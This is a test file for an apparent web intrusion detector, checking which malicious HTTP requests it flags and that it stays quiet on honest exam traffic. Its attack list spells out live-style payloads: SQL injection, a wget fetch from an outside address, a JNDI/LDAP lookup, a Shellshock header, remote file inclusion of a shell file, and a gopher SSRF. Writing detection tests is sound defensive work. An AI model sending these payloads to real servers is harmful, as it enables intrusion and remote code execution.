import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { airWall, createAirState } from '../../../../src/main/domain/walls/air/air-wall.ts';
import { withBoundedGaps } from '../../../../src/main/domain/walls/air/bounded-gaps.ts';
import { LONGEST_TEXT } from '../../../../src/main/domain/walls/air/parameters.ts';
import { MOST_SOURCES } from '../../../../src/main/domain/walls/air/probing.ts';
import { readingsOf } from '../../../../src/main/domain/walls/air/readings.ts';
import { SIGNS } from '../../../../src/main/domain/walls/air/signs/all-signs.ts';
import type { Finding } from '../../../../src/main/domain/walls/finding.ts';
import type { RequestSignal } from '../../../../src/main/domain/walls/signal.ts';
import { examTexts } from '../../../corpus/support/exam-texts.ts';
import { honestRequests } from '../../../corpus/support/honest-requests.ts';

const get = (uri: string, more: Partial<RequestSignal> = {}): RequestSignal => ({
  kind: 'request',
  at: 1_000,
  ip: '10.0.0.9',
  method: 'GET',
  uri,
  version: 'HTTP/1.1',
  headers: { host: 'room', 'user-agent': 'Mozilla/5.0' },
  status: 200,
  ...more,
});
const post = (body: string, type = 'application/x-www-form-urlencoded'): RequestSignal =>
  get('/form', { method: 'POST', body, headers: { host: 'room', 'content-type': type } });
const look = (signal: RequestSignal): readonly Finding[] => airWall(signal, createAirState());
const typesOf = (signal: RequestSignal): string[] => look(signal).map(({ type }) => type);

describe('W1 what an attack looks like', () => {
  const ATTACKS: readonly [string, RequestSignal][] = [
    ['sql_injection', get("/list?sort=name'%20AND%20'a'%3D'a")],
    ['sql_injection', get('/list?id=7%20UNION%0aALL/**/SELECT%20secret%20FROM%20vault')],
    ['sql_injection', get('/list?id=7%2520OR%25201%253D1')],
    ['sql_injection', post('name=x%27%3B+DROP+TABLE+vault%3B--')],
    ['sql_injection', post('{"filter":{"owner":{"$ne":null}}}', 'application/json')],
    ['shell_injection', get('/ping?host=10.1.1.1%3Bwget%20http://198.51.100.4/a')],
    ['shell_injection', get('/ping?host=%24(id)')],
    ['shell_injection', get('/ping?host=a%26%26w%27h%27oami')],
    ['shell_injection', get('/', { headers: { host: 'room', 'user-agent': '() { :; }; /bin/id' } })],
    ['code_injection', post('tpl={{config.items()}}')],
    ['code_injection', get('/', { headers: { host: 'room', 'x-api-version': '${jndi:ldap://198.51.100.4/a}' } })],
    ['code_injection', post('<?xml version="1.0"?><a b="$_REQUEST[c]"/>', 'text/xml')],
    ['server_side_request', get('/fetch?u=gopher://cache:6379/_FLUSHALL')],
    ['path_traversal', get('/files?name=..%c0%af..%c0%afsecret')],
    ['path_traversal', get('/static/%2e%2e/%2e%2e/settings')],
    ['sensitive_file', get('/.git/config')],
    ['remote_file_inclusion', get('/page?template=http://198.51.100.4/shell.txt?')],
    ['cross_site_scripting', get('/hello?name=%3Cimg%20src%3Dx%20onerror%3Dfoo()%3E')],
    ['cross_site_scripting', get('/hello?name=%26lt%3Bscript%26gt%3Bx%26lt%3B/script%26gt%3B')],
    ['cross_site_scripting', get('/hello?name=%EF%BC%9Cscript%EF%BC%9E')],
    ['session_fixation', get('/login?PHPSESSID=1234')],
    ['scanner', get('/', { headers: { host: 'room', 'user-agent': 'sqlmap/1.9' } })],
    [
      'request_smuggling',
      get('/x', { method: 'POST', headers: { 'content-length': '4', 'transfer-encoding': 'chunked', 'content-type': 'a/b' } }),
    ],
    ['request_smuggling', get('/go?to=a%0d%0aSet-Cookie:%20x=1')],
    ['malformed_request', get('/', { version: 'HTTP/1.2' })],
    ['malformed_request', get('/a%00b')],
    ['malformed_request', get('/', { method: 'QUACK' })],
    ['malformed_request', get('/', { headers: { 'x-long': 'a '.repeat(3_000) } })],
  ];
  it.each(ATTACKS)('W1 %s (%#)', (type, signal) => {
    expect(typesOf(signal), signal.uri).toEqual([type]);
  });

  it('W1 a name of a header or a value in one word is no attack by itself', () => {
    for (const uri of [
      '/a?order=date',
      '/a?q=union+of+europe',
      '/a?q=select+a+seat',
      '/a?id=7',
      '/a?mail=o%27brien@example.org',
      '/a?t=12:30',
      '/a?f=(a%2Bb)*c',
      '/~ann/notes.txt',
      '/a?title=Drop+in+session',
      "/a?q=it's+fine",
    ]) {
      expect(look(get(uri)), uri).toEqual([]);
    }
  });

  it('W1 an honest exam day raises nothing: our own paths, pages, sockets, and answers full of code', () => {
    const state = createAirState();
    for (const { signal } of honestRequests(examTexts())) {
      expect(airWall(signal, state), `${signal.method} ${signal.uri} ${JSON.stringify(signal.headers)}`).toEqual([]);
    }
  });

  it('W1 bodies of the room’s own ways are never looked at, but for who signs in', () => {
    const own = (uri: string, body: object): string[] => typesOf(get(uri, { method: 'POST', body: JSON.stringify(body) }));
    expect(own('/api/v1/attempts/1/message', { message: "' OR 1=1-- <script>" })).toEqual([]);
    expect(own('/socket.io/?EIO=4', { value: '<script>alert(1)</script>' })).toEqual([]);
    expect(own('/api/v1/auth/login', { username: 'ann', password: "' OR 1=1--" })).toEqual([]);
    expect(own('/api/v1/auth/login', { username: "' OR 1=1--", password: 'x' })).toEqual(['sql_injection']);
  });
});

describe('W1 what a finding says', () => {
  it('W1 is one for each request, sure between a half and one, and about the address', () => {
    const [found, ...others] = look(get("/x?a=<script>&b=' OR 1=1--&c=../../etc/passwd&d=;whoami"));
    expect(others).toEqual([]);
    expect(found?.confidence).toBeGreaterThanOrEqual(0.5);
    expect(found?.confidence).toBeLessThan(1);
    expect(found?.subject).toEqual({ ip: '10.0.0.9', user: undefined });
    expect(found?.reasons.length).toBeGreaterThan(1);
  });

  it('W1 more signs make it surer, never less', () => {
    const one = look(get('/x?a=<script>'))[0]?.confidence ?? 0;
    const two = look(get('/x?a=<script>&b=<script>'))[0]?.confidence ?? 0;
    expect(two).toBeGreaterThan(one);
  });

  it('W1 quotes short and in one line, without control or direction characters', () => {
    const [found] = look(get(`/x?a=${encodeURIComponent(`<script\u202e\u0007\n src=${'a b'.repeat(500)}`)}`));
    for (const reason of found?.reasons ?? []) {
      expect(reason.length).toBeLessThan(160);
      expect(reason).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    }
  });

  it('W1 never shows what may be a token, a password or a cookie, wherever it stands', () => {
    const secret = 'Zm9vYmFyLWJheg4711quux';
    const places: RequestSignal[] = [
      get(`/x?token=${secret}&a=<script>`),
      get(`/x?token=<script>${secret}`),
      get(`/x?a=<script>${secret}`),
      get(`/${secret}/../../etc/passwd`),
      get(`/x?${secret}=<script>`),
      get('/x', { headers: { cookie: `a=<script>${secret}`, host: 'room' } }),
      get('/x', { headers: { referer: `http://a/?token=${secret}&b=<script>`, host: 'room' } }),
      get('/x', { headers: { [secret]: '<script>', host: 'room' } }),
      get(`/x\0${secret}`),
      get('/x', { method: secret }),
      get(`/x?a=%ff${secret}`),
    ];
    for (const signal of places)
      expect(JSON.stringify(look(signal).map(({ reasons }) => reasons)), signal.uri).not.toContain(secret);
  });

  it('W1 never shows even a short value of a cookie, and does not look at a parameter that opens something', () => {
    const reasons = look(get('/x', { headers: { cookie: 'pin=<script>hunter2', host: 'room' } })).flatMap(
      (found) => found.reasons,
    );
    expect(reasons).not.toEqual([]);
    expect(reasons.join(' ')).not.toContain('hunter2');
    for (const name of ['token', 'ticket', 'password', 'refreshToken'])
      expect(look(get(`/x?${name}=<script>hunter2`))).toEqual([]);
  });
});

describe('W1 bounds', () => {
  /** Beginnings that make a careless pattern try everything, each repeated to the bound. */
  const SEEDS = [
    'a',
    '(',
    '<',
    "'",
    '"',
    ' ',
    '\t',
    '/',
    '../',
    '%',
    '$',
    '${',
    '$a[',
    '{',
    '{{',
    '[',
    ';',
    '|',
    '`',
    '-',
    '--',
    '/*',
    '*/',
    '=',
    'or ',
    'select ',
    'union ',
    '<script ',
    'on',
    'onx=',
    '&#',
    '\\',
    '\\u',
    '0x',
    '1.e(',
    'for %a ',
    'if a',
    '!',
    '@',
    ':',
    'http://',
    'O:1:"',
    '"$',
    '<a ',
    'style=',
    'j a v a',
    '\r\n',
    '))((',
    '((((',
    'a.',
    'x::',
    '->',
    '../..',
    '@{',
    '+AD',
    ' ( ',
    "' '",
    'a b ',
    'case when ',
  ];
  /** A quadratic pattern takes 80,000 for such a text, the slowest of ours 2,000. */
  const MOST_MICROS = 20_000;
  const microsOf = (run: () => void): number => {
    const before = process.cpuUsage();
    run();
    const { user, system } = process.cpuUsage(before);
    return user + system;
  };

  it('W1 no gap in a pattern is without a bound', () => {
    for (const { pattern } of SIGNS) {
      const bare = pattern.source.replace(/\\./g, 'x').replace(/\[[^\]]*\]/g, 'c');
      expect(bare).not.toMatch(/[*+]|\{\d+,\}/);
    }
  });

  it('W1 bounding the gaps of a pattern changes nothing else of it', () => {
    expect(withBoundedGaps(/a+b*[*+\]]{2,}\*\+(?:c|d){3}/i)).toEqual(/a{1,64}b{0,64}[*+\]]{2,66}\*\+(?:c|d){3}/i);
  });

  it('W1 every pattern takes what an adversary writes in the time of a few looks, not of its square', () => {
    const slow: string[] = [];
    for (const seed of [...SEEDS, ...SEEDS.flatMap((one, n) => [one + (SEEDS[(n * 7 + 3) % SEEDS.length] ?? ''), `${one}a`])]) {
      const readings = readingsOf(seed.repeat(Math.ceil(LONGEST_TEXT / seed.length)).slice(0, LONGEST_TEXT));
      for (const { pattern, reading } of SIGNS) {
        const text = readings.of(reading);
        // CPU of this process, the least of three: what else the machine does is not counted.
        const least = Math.min(...Array.from({ length: 3 }, () => microsOf(() => pattern.test(text))));
        if (least > MOST_MICROS) slow.push(`${least} us on ${JSON.stringify(seed)}: ${pattern.source.slice(0, 100)}`);
      }
    }
    expect(slow).toEqual([]);
  });

  it('W1 takes any request whatever stands in it', () => {
    const text = fc.string({ unit: 'binary', maxLength: 300 });
    const headers = fc.dictionary(text, fc.oneof(text, fc.array(text, { maxLength: 3 })), { maxKeys: 8 });
    const body = fc.option(text, { nil: undefined });
    fc.assert(
      fc.property(text, text, text, headers, body, (method, uri, version, given, said) => {
        for (const type of ['application/json', 'text/xml', 'multipart/form-data; boundary=a', '']) {
          const found = look({ ...get(uri), method, version, headers: { ...given, 'content-type': type }, body: said });
          expect(found.length).toBeLessThanOrEqual(1);
        }
      }),
      { numRuns: 200 },
    );
  });

  it('W1 an attack behind a wall of harmless text is still seen at the end of it', () => {
    expect(typesOf(get(`/x?a=${'b%20'.repeat(4_000)}%3Cscript%3E`))).toEqual(expect.arrayContaining([expect.any(String)]));
    expect(typesOf(post(`a=${'b '.repeat(4_000)}<script>`))).toEqual(['cross_site_scripting']);
  });
});

describe('W1 somebody who tries doors', () => {
  const missing = (uri: string, at: number, ip = '10.0.0.9'): RequestSignal => get(uri, { at, ip, status: 404 });

  it('W1 more than ten different paths that are not there are probing; one path for a whole hall is not', () => {
    const state = createAirState();
    const found = Array.from({ length: 11 }, (_, n) => airWall(missing(`/thing${n}`, n * 100), state)).flat();
    expect(found.map(({ type, subject }) => [type, subject.ip])).toEqual([['probing', '10.0.0.9']]);
    const hall = createAirState();
    for (let n = 0; n < 500; n += 1) expect(airWall(missing('/welcome', n * 10), hall)).toEqual([]);
  });

  it('W1 the same spread over an hour is nobody, and neither are pieces of an old page or records that are gone', () => {
    const slow = createAirState();
    for (let n = 0; n < 60; n += 1) expect(airWall(missing(`/thing${n}`, n * 60_000), slow)).toEqual([]);
    const state = createAirState();
    for (let n = 0; n < 60; n += 1) {
      expect(airWall(missing(`/exam/assets/part-${n}.js`, n), state)).toEqual([]);
      expect(airWall(missing(`/api/v1/exams/${n}`, n), state)).toEqual([]);
    }
  });

  it('W1 accounts tried by number are counted by the number, not by the tries', () => {
    const state = createAirState();
    for (let n = 0; n < 30; n += 1) expect(airWall(get('/?author=1', { at: n }), state)).toEqual([]);
    const found = Array.from({ length: 6 }, (_, n) => airWall(get(`/?author=${n + 2}`, { at: 50 + n }), state)).flat();
    expect(found.map(({ type }) => type)).toEqual(['user_enumeration']);
  });

  it('W1 a flood of paths that were never there is told as one', () => {
    const state = createAirState();
    const found = Array.from({ length: 35 }, (_, n) => airWall(missing(`/x${n}`, 1_000 + n), state)).flat();
    expect(found.map(({ type }) => type)).toContain('request_flood');
  });

  it('W1 a million addresses cost what the bound costs, and who is quiet is forgotten first', () => {
    const state = createAirState();
    for (let n = 0; n < 20_000; n += 1) airWall(missing(`/x${n}`, n, `198.${n >> 16}.${(n >> 8) & 255}.${n & 255}`), state);
    expect(state.sources.size).toBe(MOST_SOURCES);
    expect(state.sources.peek('198.0.0.0')).toBeUndefined();
  });

  it('W1 a clock that goes back breaks nothing', () => {
    const state = createAirState();
    for (let n = 0; n < 8; n += 1) expect(airWall(missing(`/x${n}`, 1_000_000 - n * 1_000), state)).toEqual([]);
  });
});
